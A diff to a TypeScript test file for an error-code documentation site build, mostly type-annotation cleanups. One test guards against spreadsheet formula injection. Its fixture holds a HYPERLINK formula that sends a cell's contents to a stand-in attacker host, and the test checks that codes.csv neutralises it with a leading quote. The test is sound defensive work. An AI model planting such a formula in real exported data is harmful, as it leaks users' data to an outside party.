@@ -106,7 +106,10 @@ describe('a build from a table that gained one code and lost another', () => {
 	it('with REPO_URL, links each code page to its page text and to a new issue about it', () => {
 		const links = (path: string) => {
 			const page = readFileSync(join(build.outDir, path), 'utf-8');
-			return Object.fromEntries([...page.matchAll(/<a href="([^"]+)"[^>]*>\s*([^<]+?)\s*<\/a>/g)].map(([, href, text]) => [text, href!.replaceAll('&amp;', '&')]));
+			// Both groups are required by the pattern, so every match has them.
+			return Object.fromEntries(
+				[...page.matchAll(/<a href="([^"]+)"[^>]*>\s*([^<]+?)\s*<\/a>/g)].map(([, href, text]) => [text!, href!.replaceAll('&amp;', '&')]),
+			);
 		};
 		const en = links('en/codes/0/index.html');
 		expect(en['Edit this page']).toBe('https://github.com/example/im-error-codes/edit/main/content/codes/en/0.mdx');
@@ -176,7 +179,7 @@ describe('a build from a table kept outside the project, whose message is a spre
 
 	it('hands the formula to spreadsheets as text in codes.csv, and verbatim in codes.json', () => {
 		const { outDir } = build;
-		const rows = parseCsv(readFileSync(join(outDir, 'codes.csv'), 'utf-8'), { columns: true, bom: true }) as Record<string, string>[];
+		const rows = parseCsv<Record<string, string>>(readFileSync(join(outDir, 'codes.csv'), 'utf-8'), { columns: true, bom: true });
 		const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")';
 		expect(rows.find((r) => r['code'] === '898010')?.['message']).toBe(`'${formula}`);
 		expect(rows.find((r) => r['code'] === '898011')?.['message']).toBe("'-1 retries left");
